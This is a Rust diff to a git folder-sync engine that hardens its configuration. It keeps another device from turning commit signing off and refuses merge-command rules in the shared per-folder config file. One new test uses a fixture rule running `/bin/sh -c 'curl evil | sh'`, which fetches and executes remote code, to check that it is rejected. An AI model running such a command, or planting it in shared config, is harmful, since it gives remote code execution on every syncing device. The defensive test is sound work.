@@ -106,10 +106,11 @@ pub struct GitSettings {
     pub user: Option<String>,
     /// Author email of sync commits (default: the repo's `user.email`).
     pub email: Option<String>,
-    /// Whether the engine's commits are signed: true signs them as if the git config said
-    /// `commit.gpgsign = true` (key, format and program still come from the git config), false
-    /// never signs; unset, the git config decides.
-    pub sign: Option<bool>,
+    /// Requires signed commits: true signs every commit of the engine as if the git config said
+    /// `commit.gpgsign = true` (key, format and program still come from the git config); false
+    /// leaves it to the git config. Only ever turns signing on, so a `.supersonic-sync.conf`
+    /// written by another device cannot turn this device's signing off.
+    pub sign: bool,
 }
 
 /// The seed's `sync:` section plus the engine's timing knobs.
@@ -312,24 +313,29 @@ pub const DEFAULT_COMMAND_TIMEOUT_SEC: u64 = 10;
 impl ConflictSettings {
     /// Checks what the types cannot: `strategy: command` comes with a command (and a command
     /// only with that strategy), the default is not `command`, the timeout is positive. An
-    /// error names `file` and the key (`conflicts.rules[0].command`).
-    pub fn check(&self, file: &Path) -> Result<(), ConfigError> {
+    /// error names `file` and the key under `prefix` (`folders[0].conflicts.rules[0].command`;
+    /// an empty prefix for a folder's own settings).
+    pub fn check(&self, file: &Path, prefix: &str) -> Result<(), ConfigError> {
+        let key = |k: &str| match prefix {
+            "" => format!("conflicts.{k}"),
+            p => format!("{p}.conflicts.{k}"),
+        };
         if self.default == Strategy::Command {
             return Err(ConfigError::new(
                 file,
-                Some("conflicts.default"),
+                Some(&key("default")),
                 "`command` needs a command, which only a rule can carry; use it in a rule",
             ));
         }
         if self.command_timeout_sec == 0 {
             return Err(ConfigError::new(
                 file,
-                Some("conflicts.command_timeout_sec"),
+                Some(&key("command_timeout_sec")),
                 "must be greater than 0",
             ));
         }
         for (i, rule) in self.rules.iter().enumerate() {
-            let key = format!("conflicts.rules[{i}].command");
+            let key = key(&format!("rules[{i}].command"));
             match (&rule.command, rule.strategy) {
                 (None, Strategy::Command) => {
                     return Err(ConfigError::new(
@@ -524,7 +530,7 @@ pub fn load_app_config(file: &Path) -> Result<AppConfig, ConfigError> {
     }
     if !config.defaults.is_null() {
         let defaults: FolderSettings = from_value(file, "defaults", config.defaults.clone())?;
-        defaults.conflicts.check(file)?;
+        defaults.conflicts.check(file, "defaults")?;
     }
     for (i, folder) in config.folders.iter().enumerate() {
         let key = format!("folders[{i}]");
@@ -542,7 +548,7 @@ pub fn load_app_config(file: &Path) -> Result<AppConfig, ConfigError> {
             folder.overrides.iter().map(|(k, v)| (Value::String(k.clone()), v.clone())).collect(),
         );
         let settings: FolderSettings = from_value(file, &key, overrides)?;
-        settings.conflicts.check(file)?;
+        settings.conflicts.check(file, &key)?;
     }
     Ok(config)
 }
@@ -575,10 +581,31 @@ pub fn load_folder_file(folder: &Path) -> Result<Value, ConfigError> {
         Err(e) => return Err(ConfigError::new(&file, None, format!("cannot read: {e}"))),
     };
     let settings: FolderSettings = parse_yaml(&file, &text)?;
-    settings.conflicts.check(&file)?;
+    refuse_shared_commands(&file, &settings.conflicts)?;
     let value: Value =
         serde_yaml::from_str(&text).map_err(|e| ConfigError::new(&file, None, e.to_string()))?;
     Ok(value)
+}
+
+/// Refuses merge commands in a folder's own config file. The file travels with the folder, so
+/// anyone who can push to the remote could otherwise make every device run a program of their
+/// choosing (git draws the same line: `.gitattributes` names a merge driver, only the local
+/// config defines its command).
+fn refuse_shared_commands(file: &Path, conflicts: &ConflictSettings) -> Result<(), ConfigError> {
+    let shared =
+        conflicts.rules.iter().position(|r| r.strategy == Strategy::Command || r.command.is_some());
+    match shared {
+        None => conflicts.check(file, ""),
+        Some(i) => Err(ConfigError::new(
+            file,
+            Some(&format!("conflicts.rules[{i}].command")),
+            format!(
+                "merge commands are not read from {FOLDER_CONFIG_FILE}, which every device \
+                 syncing the folder can change; put this rule in this device's {APP_CONFIG_FILE} \
+                 (the folder's entry, or `defaults:`)"
+            ),
+        )),
+    }
 }
 
 /// Resolves a folder's effective configuration from every layer and the environment.
@@ -678,7 +705,7 @@ fn validate(file: &Path, config: &FolderConfig) -> Result<(), ConfigError> {
             "must not be smaller than sync.backoff_initial_sec",
         ));
     }
-    config.settings.conflicts.check(file)?;
+    config.settings.conflicts.check(file, "")?;
     if config.branch.is_empty() || git2::Branch::name_is_valid(&config.branch) != Ok(true) {
         return Err(ConfigError::new(
             file,
@@ -854,7 +881,7 @@ mod tests {
     fn conflict_commands_are_checked_and_errors_name_the_key() {
         let check = |yaml: &str| {
             let c: ConflictSettings = serde_yaml::from_str(yaml).unwrap();
-            c.check(Path::new("f.conf")).err().map(|e| (e.key.unwrap(), e.message))
+            c.check(Path::new("f.conf"), "").err().map(|e| (e.key.unwrap(), e.message))
         };
         let ok = "rules: [{pattern: '*.json', strategy: command, command: [m, '%A']}]";
         assert_eq!(check(ok), None);
@@ -871,5 +898,22 @@ mod tests {
         assert!(msg.contains("only used with `strategy: command`"), "{msg}");
         assert_eq!(check("default: command").unwrap().0, "conflicts.default");
         assert_eq!(check("command_timeout_sec: 0").unwrap().0, "conflicts.command_timeout_sec");
+        let c: ConflictSettings = serde_yaml::from_str("default: command").unwrap();
+        let e = c.check(Path::new("config.yaml"), "folders[2]").unwrap_err();
+        assert_eq!(e.key.as_deref(), Some("folders[2].conflicts.default"));
+    }
+
+    #[test]
+    fn a_folder_config_file_cannot_carry_a_merge_command() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(FOLDER_CONFIG_FILE),
+            "conflicts:\n  rules:\n    - {pattern: x, strategy: union}\n    - pattern: '*.md'\n      \
+             strategy: command\n      command: [/bin/sh, -c, 'curl evil | sh']\n",
+        )
+        .unwrap();
+        let e = load_folder_file(dir.path()).unwrap_err();
+        assert_eq!(e.key.as_deref(), Some("conflicts.rules[1].command"));
+        assert!(e.message.contains("not read from .supersonic-sync.conf"), "{}", e.message);
     }
 }
